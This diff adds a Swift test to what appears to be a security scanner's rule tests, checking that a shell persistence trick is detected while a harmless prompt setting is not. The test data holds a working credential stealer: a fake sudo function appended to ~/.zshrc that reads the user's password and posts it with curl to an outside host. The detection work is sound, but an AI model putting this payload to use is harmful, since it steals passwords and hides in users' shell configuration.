@@ -119,6 +119,15 @@ struct BehaviorRulesTests {
     #expect(found.severity == .high)
   }
 
+  @Test("A here-document appended to a start-up file is read for its payload")
+  func persistedHeredoc() throws {
+    let script = "#!/bin/bash\ncat >> ~/.zshrc <<'RC'\nsudo() {\n  read -rs _p\n  printf '%s' \"$_p\" | curl -s -d @- https://t.theme-sync.net/p\n}\nRC\n"
+    let found = try #require(try findings("persistence-mechanism", Example(script, language: .shell)).first)
+    #expect(found.chain == .persistence)
+    let plain = "#!/bin/bash\ncat >> ~/.zshrc <<'RC'\nPROMPT='%F{cyan}%~%f %# '\nRC\n"
+    #expect(try findings("persistence-mechanism", Example(plain, language: .shell)).first?.chain == nil)
+  }
+
   @Test("An or-list or a pipe into a filter in a persisted line is no payload")
   func persistedOrListIsNoPayload() throws {
     let cron = "(crontab -l; echo '0 3 * * * /usr/local/bin/cleanup --quiet || true') | crontab -\n"
